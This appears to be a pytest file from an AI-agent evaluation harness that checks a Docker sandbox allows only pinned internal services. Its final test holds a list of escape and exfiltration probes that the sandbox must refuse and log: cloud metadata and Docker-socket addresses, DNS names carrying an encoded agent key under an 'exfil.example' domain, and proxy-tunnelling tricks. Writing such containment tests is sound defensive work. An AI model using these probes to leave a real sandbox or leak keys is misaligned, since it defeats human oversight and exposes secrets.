"""People, mail, pages, packages and files as unmodified programs in real sandboxes meet them."""

import json
from pathlib import Path

import pytest

from agent_eval.sandbox.network import Network
from agent_eval.world import debs, wheels
from tests.docker.boxes import RUNTIMES, bash, box, python
from tests.run.furnished import furnished
from tests.world.worlds import AGENT, Stage

pytestmark = pytest.mark.docker
SLOW_S = 200.0
ERRAND = """
set -e
key="Authorization: Bearer key-of-agent"
curl -sS https://people.internal/ | head -1
curl -sS -H "$key" https://people.internal/v1/people | jq -r '.people[].id'
curl -sS -T /etc/hostname -H "$key" https://store.internal/v1/buckets/work/h | jq -r .error.status
curl -sS 'https://search.internal/search?q=harbour&format=json' | jq -r '.results[0].url'
curl -sS http://harbour.internal/
curl -sS -o /dev/null -w '%{http_code}\\n' https://mail.internal/v1/mails
curl -sS --max-time 20 http://example.com/ || echo refused
"""


def network(stage: Stage) -> Network:
    gateway = stage.world.gateway
    return Network(
        lambda address, port: gateway.connect(AGENT, address, port),
        lambda name: gateway.resolve(AGENT, name),
        gateway.authority.pem.decode(),
    )


@pytest.mark.anyio
@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_curl_reaches_every_service_and_nothing_else(runtime: str, tmp_path: Path) -> None:
    async with furnished(tmp_path) as stage, box(runtime, network=network(stage)) as sandbox:
        done = await bash(sandbox, ERRAND, SLOW_S)
        said = done.output.decode().splitlines()
        assert said[:3] == ["# People", "kim", "lee"], said
        assert said[3:7] == ["403", "http://harbour.internal/", "Harbour Line", "401"], said
        assert said[-1] == "refused", said
        [tried] = stage.events("store.asked")
        assert (tried["outcome"], tried["sandbox"]) == ("forbidden", "0")
        asked = stage.events("world.asked")
        assert {each["name"] for each in asked if not each.get("address")} == {"example.com"}


@pytest.mark.anyio
@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_pip_as_it_is_installs_what_is_pinned_and_nothing_else(
    runtime: str, tmp_path: Path
) -> None:
    if not wheels.on_offer():
        pytest.skip("set-up could not fetch the packages: sandbox/fetch-packages says why")
    install = "pip install --no-cache-dir --break-system-packages"
    async with (
        furnished(tmp_path) as stage,
        box(runtime, network=network(stage), home_bytes="192MiB") as sandbox,
    ):
        done = await bash(sandbox, f"{install} openai 2>&1; echo $?", SLOW_S)
        assert done.output.split()[-1] == b"0", done.output
        used = await bash(sandbox, "python3 -c 'import openai; print(openai.__file__)'", SLOW_S)
        assert used.output.startswith(b"/home/user/.local/"), used.output
        missing = await bash(sandbox, f"{install} left-pad 2>&1", SLOW_S)
        assert b"No matching distribution found for left-pad" in missing.output
        sent = {each["sha256"] for each in stage.events("packages.asked") if "sha256" in each}
        assert sent
        assert sent <= {wheel.sha256 for wheel in wheels.on_offer()}
        asked = {each["name"] for each in stage.events("world.asked")}
        assert asked == {"pypi.org"}, json.dumps(sorted(asked))


APT = """
curl -sS https://packages.internal/ | sed -n 's/^    //p' | sed s/NAME/hello/g >steps
bash -e ./steps 2>&1
export APT_CONFIG=~/.apt/apt.conf
apt-get install -qq --download-only socat pv 2>&1 && (cd ~/.apt/archives && ls *.deb)
apt-get download left-pad 2>&1 || echo missing
curl -sS -o /dev/null -w '%{http_code}\\n' https://packages.internal/debian/pool/left-pad_1_all.deb
"""


@pytest.mark.anyio
@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_apt_get_as_its_page_says_fetches_what_is_pinned_and_nothing_else(
    runtime: str, tmp_path: Path
) -> None:
    if not debs.on_offer():
        pytest.skip("set-up could not fetch the packages: sandbox/fetch-packages says why")
    async with furnished(tmp_path) as stage, box(runtime, network=network(stage)) as sandbox:
        said = (await bash(sandbox, APT, SLOW_S)).output.decode()
        assert "Hello, world!" in said, said
        assert all(f"\n{name}_" in said for name in ("pv", "socat")), said
        assert "Unable to locate package left-pad\nmissing\n404\n" in said, said
        asked = stage.events("packages.asked")
        sent = {each["name"].partition("_")[0]: each.get("sha256") for each in asked}
        offered = {deb.package: deb.sha256 for deb in debs.on_offer()}
        assert sent == {name: offered.get(name) for name in ("hello", "socat", "pv", "left-pad")}
        assert {each["index"] for each in asked} == {"apt"}
        assert {each["name"] for each in stage.events("world.asked")} == {"packages.internal"}


ENCODED = ("6b65792d6f662d6167656e74" * 2, "a2V5LW9mLWFnZW50", "x" * 63)
NAMES = (
    *("example.com", "api.openai.com", "github.com", "deb.debian.org", "test.pypi.org"),
    *("metadata.google.internal", "host.docker.internal", "gateway.docker.internal"),
    *(f"{label}.exfil.example" for label in ENCODED),
    *(f"{label}.people.internal" for label in ENCODED),
    ".".join(["y" * 50] * 4),
)
ADDRESSES = (
    *(("169.254.169.254", 80), ("8.8.8.8", 443), ("172.17.0.1", 2375), ("10.0.0.1", 22)),
    *(("127.255.255.254", 80), ("1.1.1.1", 853)),
)
SCAN = f"""
import json, socket
def met(host, port):
    try:
        with socket.create_connection((host, port), 20) as sock:
            sock.sendall(b"GET / HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\n\\r\\n")
            return sock.recv(100).decode()
    except OSError as error:
        return type(error).__name__
print(json.dumps([[met(name, 80) for name in {NAMES!r}],
    [met(*address) for address in {ADDRESSES!r}],
    [met("people.internal", port) for port in (22, 8080, 15001)]]))
"""
ABUSED = """
curl -sS --max-time 20 -x http://people.internal:80 http://example.com/ | head -1
curl -sS --max-time 20 -p -x http://people.internal:80 https://example.com/ || echo no tunnel
curl -sS --max-time 20 --resolve example.com:443:127.0.0.1 https://example.com/ || echo nobody
curl -sS --max-time 20 -H 'Host: example.com' http://harbour.internal/
"""


@pytest.mark.anyio
@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_nothing_else_is_reachable_and_what_was_tried_is_on_record(
    runtime: str, tmp_path: Path
) -> None:
    async with furnished(tmp_path) as stage, box(runtime, network=network(stage)) as sandbox:
        named, addressed, ported = json.loads((await python(sandbox, SCAN, SLOW_S)).output)
        assert set(named) == {"gaierror"}, dict(zip(NAMES, named, strict=True))
        assert set(addressed) == {"ConnectionResetError"}, addressed
        assert set(ported) == {"ConnectionResetError"}, ported
        asked = {each["name"]: each.get("address") for each in stage.events("world.asked")}
        assert dict.fromkeys(name.lower() for name in NAMES).items() <= asked.items()
        refused = [(each["address"], each["port"]) for each in stage.events("world.refused")]
        assert set(ADDRESSES) <= set(refused)
        assert {port for address, port in refused if address == asked["people.internal"]} == {
            *(22, 8080, 15001),
        }
        said = (await bash(sandbox, ABUSED, SLOW_S)).output.decode()
        assert "no tunnel" in said
        assert "nobody" in said
        assert "Example" not in said, "a service is no proxy"
        assert {each["sandbox"] for each in stage.events("world.exchange")} == {"0"}
